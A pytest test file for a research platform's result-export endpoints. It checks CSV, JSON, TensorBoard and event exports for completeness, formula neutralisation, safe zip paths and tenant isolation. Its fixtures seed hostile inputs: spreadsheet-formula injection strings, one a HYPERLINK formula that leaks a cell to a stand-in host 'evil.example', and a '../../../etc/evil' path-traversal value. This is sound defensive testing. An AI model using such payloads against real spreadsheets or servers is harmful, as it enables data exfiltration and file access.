"""Exports of a run's results, through the page's links and the API: every metric row as
CSV (never a spreadsheet formula) and JSON, a TensorBoard log folder that TensorBoard's own
reader loads, the events as JSON Lines; the tenant check of each (an outsider gets 404)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest

from flautim.web.api import schemas as s
from tests.conftest import login

from .conftest import bearer

# Metric names and `metric()` sources a user's code may choose: spreadsheet formulas.
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
                 "  =1+1", "|calc", "%0A=1", "\r=1", "ação/ñ"]
TRIGGERS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n", " ")


@pytest.fixture
def ctx(app, make_user, make_project, make_token, seed_experiment):
    from flautim.models import ExperimentEvent, MetricRow, db

    owner = make_user("dona@example.org")
    outsider = make_user("outra@example.org")
    pid = make_project("Projeto", owner)
    make_project("Dela", outsider)
    exp = seed_experiment(pid, rounds=3)
    with app.app_context():
        for i, name in enumerate(HOSTILE_NAMES):
            db.session.add(MetricRow(experiment_id=exp, attempt=1, round=i + 1, phase="metric",
                                     source="../../../etc/evil" if i % 2 else "server", name=name,
                                     value=-1.5e-05 * (i + 1)))
        # Another attempt's rows and events stay out of attempt 1's exports.
        db.session.add(MetricRow(experiment_id=exp, attempt=2, round=1, phase="train", source="aggregate",
                                 name="loss", value=9.0))
        db.session.add(ExperimentEvent(experiment_id=exp, attempt=2, type="run_started", payload={}))
        db.session.add(ExperimentEvent(experiment_id=exp, attempt=1, type="error",
                                       payload={"what": "x\ny", "where": "api.py:3"}))
        db.session.commit()
    return {"pid": pid, "exp": exp, "owner": bearer(make_token(owner)), "outsider": bearer(make_token(outsider)),
            "base": f"/api/v1/projects/{pid}/experiments/{exp}/export"}


def _db_rows(app, exp: int, attempt: int = 1) -> list[tuple]:
    from sqlalchemy import select

    from flautim.models import MetricRow, db

    with app.app_context():
        return [tuple(r) for r in db.session.execute(
            select(MetricRow.attempt, MetricRow.round, MetricRow.phase, MetricRow.source, MetricRow.name,
                   MetricRow.value)
            .where(MetricRow.experiment_id == exp, MetricRow.attempt == attempt).order_by(MetricRow.id))]


@pytest.fixture
def small_pages(monkeypatch):
    """Pages of 4 rows: every export reads several pages, as a big run's does."""
    from flautim.web.experiments import exports

    monkeypatch.setattr(exports, "PAGE_ROWS", 4)
    monkeypatch.setattr(exports, "EVENT_PAGE_ROWS", 2)


def test_metrics_csv_has_every_row_and_no_cell_a_spreadsheet_runs(app, client, ctx, small_pages):
    r = client.get(f"{ctx['base']}/metrics.csv", headers=ctx["owner"])
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"] == f'attachment; filename="experiment-{ctx["exp"]}-attempt1-metrics.csv"'
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True), newline="")))
    assert rows[0] == ["attempt", "round", "phase", "source", "name", "value"]
    expected = _db_rows(app, ctx["exp"])
    assert len(rows) - 1 == len(expected) == 3 * 4 + len(HOSTILE_NAMES)
    for (attempt, rnd, phase, source, name, value), row in zip(expected, rows[1:], strict=True):
        assert row[:2] == [str(attempt), str(rnd)]
        # A number stays a number (negative, with an exponent), read back exactly.
        assert float(row[5]) == value
        for original, cell in ((phase, row[2]), (source, row[3]), (name, row[4])):
            assert not cell.startswith(TRIGGERS), cell
            # The text is all there, behind the quote that makes it text.
            assert cell.lstrip("'").replace("\\|", "|") == original
    names = [row[4] for row in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in names and "'\t=1+1" in names


def test_metrics_json_is_every_row_and_validates_against_its_model(app, client, ctx, small_pages):
    r = client.get(f"{ctx['base']}/metrics.json", headers=ctx["owner"])
    assert r.status_code == 200 and r.mimetype == "application/json"
    body = s.MetricsExport.model_validate_json(r.data)
    assert set(json.loads(r.data)) == set(s.MetricsExport.model_fields)
    assert body.experiment_id == ctx["exp"] and body.attempt == 1
    assert [(m.attempt, m.round, m.phase, m.source, m.name, m.value) for m in body.items] == _db_rows(app, ctx["exp"])
    # The other attempt, by the query parameter.
    other = s.MetricsExport.model_validate_json(
        client.get(f"{ctx['base']}/metrics.json?attempt=2", headers=ctx["owner"]).data)
    assert [(m.name, m.value) for m in other.items] == [("loss", 9.0)]
    empty = client.get(f"{ctx['base']}/metrics.json?attempt=7", headers=ctx["owner"])
    assert json.loads(empty.data) == {"experiment_id": ctx["exp"], "attempt": 7, "items": []}


def test_tensorboard_zip_loads_in_tensorboards_reader(app, client, ctx, small_pages, tmp_path):
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

    r = client.get(f"{ctx['base']}/tensorboard.zip", headers=ctx["owner"])
    assert r.status_code == 200 and r.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(r.data))
    assert archive.testzip() is None
    root = f"experiment-{ctx['exp']}-attempt-1"
    names = archive.namelist()
    # One run per source; the hostile source is a plain folder name inside the root.
    runs = sorted({name.split("/")[1] for name in names})
    assert runs == [".._.._.._etc_evil".replace(".", "_", 1), "aggregate", "client-0", "client-1", "server"]
    assert all(n.startswith(root + "/") and ".." not in n.split("/") and re.fullmatch(r"[\w./-]+", n) for n in names)
    archive.extractall(tmp_path)
    client0 = EventAccumulator(str(tmp_path / root / "client-0"))
    client0.Reload()
    assert client0.Tags()["scalars"] == ["evaluate/loss"]
    assert [(e.step, round(e.value, 6)) for e in client0.Scalars("evaluate/loss")] == [(1, 1.0), (2, 0.5), (3, 0.333333)]
    server = EventAccumulator(str(tmp_path / root / "server"))
    server.Reload()
    assert "central/accuracy" in server.Tags()["scalars"] and "metric/-2+3" in server.Tags()["scalars"]
    assert [e.step for e in server.Scalars("central/accuracy")] == [1, 2, 3]


def test_events_jsonl_is_every_event_of_the_attempt(client, ctx, small_pages):
    r = client.get(f"{ctx['base']}/events.jsonl", headers=ctx["owner"])
    assert r.status_code == 200 and r.mimetype == "application/x-ndjson"
    lines = r.get_data(as_text=True).splitlines()
    events = [json.loads(line) for line in lines]
    assert [e["type"] for e in events] == ["round_end"] * 3 + ["error"]
    assert events[-1]["payload"] == {"what": "x\ny", "where": "api.py:3"}
    # The API's Event, as the runtime sent it (the rendered `message` is the events API's).
    assert all(set(e) == {"id", "attempt", "type", "payload", "created_at"} <= set(s.Event.model_fields)
               and e["attempt"] == 1 for e in events)
    assert [e["id"] for e in events] == sorted(e["id"] for e in events)


def test_exports_refuse_outsiders_and_bad_attempts(client, ctx):
    for what in ("metrics.csv", "metrics.json", "tensorboard.zip", "events.jsonl"):
        assert client.get(f"{ctx['base']}/{what}", headers=ctx["outsider"]).status_code == 404
        assert client.get(f"{ctx['base']}/{what}").status_code == 401
        bad = client.get(f"{ctx['base']}/{what}?attempt=-1", headers=ctx["owner"])
        assert bad.status_code == 400 and "attempt" in bad.get_data(as_text=True)


def test_the_pages_links_download_the_same_files(app, client, ctx):
    pid, exp = ctx["pid"], ctx["exp"]
    login(client, "dona@example.org")
    page = client.get(f"/projects/{pid}/experiments/{exp}").get_data(as_text=True)
    links = dict(re.findall(r'data-testid="export-(\w+)" href="([^"]+)"', page))
    assert set(links) == {"csv", "json", "tensorboard"}
    events_link = re.search(r'id="events-download" href="([^"]+)"', page).group(1)
    for key, url in (*links.items(), ("events", events_link)):
        url = url.replace("&amp;", "&")
        r = client.get(url)
        # Each streamed body is read to its end before the next request (the client's rule).
        assert (r.status_code, r.data[:0]) == (200, b""), (key, url, r.data[:300])
        api = client.get(f"{ctx['base']}/{url.rsplit('/', 1)[1].split('?')[0]}", headers=ctx["owner"]).data
        if key == "tensorboard":  # a zip's entries carry times: compare what they hold
            web_zip, api_zip = zipfile.ZipFile(io.BytesIO(r.data)), zipfile.ZipFile(io.BytesIO(api))
            assert [(i.filename, web_zip.read(i)) for i in web_zip.infolist()] == [
                (i.filename, api_zip.read(i)) for i in api_zip.infolist()]
        else:
            assert r.data == api, key
        assert f"experimento-{exp}-tentativa-1-" in r.headers["Content-Disposition"]
    # The Modelos tab offers the TensorBoard folder too.
    models = client.get(f"/projects/{pid}/experiments/{exp}/models").get_data(as_text=True)
    tb = re.search(r'data-testid="models-export-tensorboard" href="([^"]+)"', models).group(1).replace("&amp;", "&")
    assert tb == links["tensorboard"].replace("&amp;", "&")
    assert client.get(f"/projects/{pid}/experiments/{exp}/metrics.csv?attempt=x").status_code == 400
    # Another user, logged in, gets 404 for each of them.
    outsider = app.test_client()
    login(outsider, "outra@example.org")
    for url in (*links.values(), events_link):
        assert outsider.get(url.replace("&amp;", "&")).status_code == 404
